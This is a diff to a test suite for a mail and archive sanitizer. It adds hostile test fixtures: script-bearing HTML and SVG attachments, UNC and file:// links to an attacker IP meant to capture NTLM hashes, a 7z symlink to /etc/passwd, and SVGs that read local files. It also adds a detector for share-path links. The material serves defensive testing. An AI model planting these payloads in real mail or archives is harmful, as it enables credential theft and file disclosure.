@@ -502,6 +502,8 @@ def inspect_message(message: Message, depth: int, nesting: int) -> list[str]:
         found += [f"{name}: {f}" for f in inspect(name, payload, depth + 1)]
     elif ctype == "text/plain":
         found += inspect_text(payload)
+        if re.search(r"\\\\[^\\\s]+\\|file:", decode_text(payload), re.I):
+            found.append("a share path or file: link in the text, which mail clients make clickable")
         if re.search(rb"^(?:begin [0-7]{3,4} \S|=ybegin |\(This file must be converted with BinHex)", payload, re.M):
             found.append("a file encoded inside the text (uuencode, yEnc, BinHex), which mail clients show as an attachment")
     elif ctype == "text/html":
@@ -626,6 +628,16 @@ def build_cases() -> dict[str, tuple[str, bytes]]:
             "x\r\nContent-Type: text/html\r\nX-Evil: 1") + "?= <cc@example.jp>\r\n")),
         "mail-filename-crlf-injection": ("crlf-name.eml", b.mail([at(
             "filename*=UTF-8''a%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E.txt", HELLO)])),
+        "mail-html-attachments": ("htmlatt.eml", b.mail([
+            at('filename="page.html"', b.html_page(HOSTILE_HTML).encode(), "text/html"),
+            at('filename="page.htm"', b.html_page(HOSTILE_HTML).encode(), "text/html"),
+            at('filename="page.xhtml"', b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
+               "application/xhtml+xml"),
+            at('filename="page.mht"', b.html_mail(b.html_page(HOSTILE_HTML)), "message/rfc822"),
+            at('filename="pic.svg"', _svg("<script>alert(1)</script>"), "image/svg+xml")])),
+        "mail-plain-body-unc-and-file-links": ("plainunc.eml", SINGLE_HEAD + b.part(
+            'Content-Type: text/plain; charset="utf-8"',
+            f"資料は \\\\{b.ATTACKER}\\share\\資料.docx にあります。\r\n<file://{b.ATTACKER}/share/x.exe>\r\n".encode())),
         "mail-uuencoded-body": ("uu.eml", SINGLE_HEAD + b.uuencoded_body("run.bat", b.BATCH)),
         "mail-rfc822-nested-30": ("deep.eml", b.mail([b.rfc822(b.nested_rfc822(30))])),
         "mail-zip-attachment-slip": ("mzip.eml", b.mail([at('filename="docs.zip"', b.raw_zip(
@@ -654,7 +666,8 @@ def build_cases() -> dict[str, tuple[str, bytes]]:
             top=False)}])),
         "msg-ole-attachment": ("ole.msg", b.outlook_msg("OLE", None, [{"name": "image.bmp", "method": 6}])),
         "msg-by-reference-unc": ("byref.msg", b.outlook_msg("参照", None, [
-            {"name": "資料.docx", "method": 2, "path": f"\\\\{b.ATTACKER}\\share\\資料.docx"}])),
+            {"name": "資料.docx", "method": 2, "path": f"\\\\{b.ATTACKER}\\share\\資料.docx"},
+            {"name": "資料2.docx", "method": 4, "path": f"\\\\{b.ATTACKER}\\share\\資料2.docx"}])),
         "msg-exe-mime-lie": ("lie.msg", b.outlook_msg("写真", None, [{"name": "photo.jpg", "method": 1, "data": b.PE, "mime": "image/jpeg"}])),
         "msg-attach-traversal": ("trav.msg", b.outlook_msg("x", None, [{"name": "..\\..\\Startup\\x.txt", "method": 1, "data": HELLO}])),
         "msg-runnable": ("run.msg", b.outlook_msg("x", None, [{"name": n, "method": 1, "data": d} for n, d in b.RUNNABLE_MEMBERS.items()])),
@@ -699,6 +712,7 @@ def build_cases() -> dict[str, tuple[str, bytes]]:
         "7z-traversal": ("trav.7z", b.seven_zip_renamed([("qq/qq/evil.txt", HELLO), ("C_/x.txt", HELLO), OK],
                                                                 {"qq/qq/": "../../", "C_/x": "C:\\x"})),
         "7z-runnable": ("run.7z", b.seven_zip([*b.RUNNABLE_MEMBERS.items(), OK])),
+        "7z-symlink": ("symlink.7z", b.seven_zip_symlink("../../../../etc/passwd")),
         "rar5-junction": ("junction.rar", b.rar5_redirect("link", "C:\\Windows\\System32", 3)),
         "rar5-unix-symlink": ("symlink.rar", b.rar5_redirect("link", "../../../../etc", 1)),
         "rar4-traversal": ("trav.rar", b.rar4_archive([("..\\..\\evil.txt", HELLO), ("ok.txt", HELLO)])),
@@ -732,6 +746,21 @@ LOCAL_FILE_SVGS = {
         '<image href="file:///usr/share/gitweb/static/git-logo.png" width="64" height="64"/>'
         '<image xlink:href="/usr/share/gitweb/static/git-logo.png" width="64" height="64"/>')),
     "svg-unc-image": ("unc.svg", _transparent_svg(f'<image href="{b.UNC}" width="64" height="64"/>')),
+    "svg-relative-image": ("relative.svg", _transparent_svg(
+        '<image href="../../../../../../usr/share/gitweb/static/git-logo.png" width="64" height="64"/>')),
+    "svg-feimage-local-file": ("feimage.svg", _transparent_svg(
+        '<filter id="f" x="0" y="0" width="1" height="1"><feImage href="/usr/share/gitweb/static/git-logo.png"/></filter>'
+        '<rect width="64" height="64" filter="url(#f)" fill-opacity="0"/>')),
+    "svg-pattern-local-file": ("pattern.svg", _transparent_svg(
+        '<defs><pattern id="p" width="64" height="64" patternUnits="userSpaceOnUse"><image '
+        'xlink:href="file:///usr/share/gitweb/static/git-logo.png" width="64" height="64"/></pattern></defs>'
+        '<circle cx="32" cy="32" r="32" fill="url(#p)"/>')),
+    "svg-nested-svg-data-url": ("nestedsvg.svg", _transparent_svg(
+        '<image width="64" height="64" href="data:image/svg+xml;base64,' + base64.b64encode(_transparent_svg(
+            '<image href="/usr/share/gitweb/static/git-logo.png" width="64" height="64"/>')).decode() + '"/>')),
+    "svg-css-import-local": ("cssimport.svg", _transparent_svg(
+        '<style>@import url(/usr/share/gitweb/static/gitweb.css); rect{fill:url(/usr/share/gitweb/static/git-logo.png)}</style>'
+        '<rect width="64" height="64" fill-opacity="0"/>')),
 }
 # benign controls: refusing them is a usability failure, and they prove the inspector passes
 # what is harmless
@@ -758,6 +787,10 @@ CROSSINGS: dict[str, str] = {
     " a traversal to any tool that normalises names (cp1252 best fit maps U+FF0F to '/')",
     "mail-name-fullwidth-traversal": "attachment name '．．／．．／x.txt' (U+FF0E, U+FF0F) crosses unchanged; NFKC and"
     " cp1252 best fit make it ../../x.txt",
+    "mail-plain-body-unc-and-file-links": "a plain body with '\\\\10.66.66.66\\share\\資料.docx' and"
+    " '<file://10.66.66.66/share/x.exe>' crosses unchanged; Outlook and Thunderbird make both clickable, and one click"
+    " sends the clerk's NTLM hash to that host (low: a click, and SMB out of the LGWAN is normally closed; the README's"
+    " defang_links covers web links only)",
     "zip-long-names": "a member 'd/' * 150 + 'x.txt' (305 characters, 151 folders) is released as is: beyond MAX_PATH"
     " (260), so Explorer's extraction fails on the clerk's PC; a name cdr should shorten or leave out",
 }
@@ -820,6 +853,29 @@ def test_svg_draws_nothing_from_outside_the_drawing(run: dict, case: str) -> Non
         with Image.open(run["work"] / str(result["output"])) as picture:
             extrema = picture.convert("RGBA").getextrema()
         assert extrema[3] == (0, 0), f"{case}: the PNG shows a picture read from outside the SVG"
+
+
+def _red_png() -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (8, 8), (255, 0, 0)).save(out, "PNG")
+    return out.getvalue()
+
+
+def test_an_embedded_picture_is_drawn_so_the_transparency_check_can_fail(tmp_path: Path) -> None:
+    """The control for the SVG cases above: a picture inside the drawing (data:image/png)
+    is drawn, so an empty PNG there means the outside picture was not read."""
+    picture = base64.b64encode(_red_png()).decode()
+    svg = _transparent_svg(f'<image href="data:image/png;base64,{picture}" width="64" height="64"/>')
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "inside.svg").write_bytes(svg)
+    done = subprocess.run(
+        [sys.executable, str(ROOT / "cli.py"), "sanitize", str(tmp_path / "in"), "--out", str(tmp_path / "out"),
+         "--quarantine", str(tmp_path / "q"), "--audit", str(tmp_path / "a.jsonl"), "--spool", str(tmp_path / "s")],
+        capture_output=True, text=True, timeout=120, env={**os.environ, "CDR_CONFIG": "/dev/null"},
+    )
+    assert done.returncode == 0, done.stderr
+    with Image.open(tmp_path / "out" / "inside.png") as drawn:
+        assert drawn.convert("RGBA").getpixel((32, 32)) == (255, 0, 0, 255)
 
 
 @pytest.mark.parametrize("case", list(BENIGN_CASES))
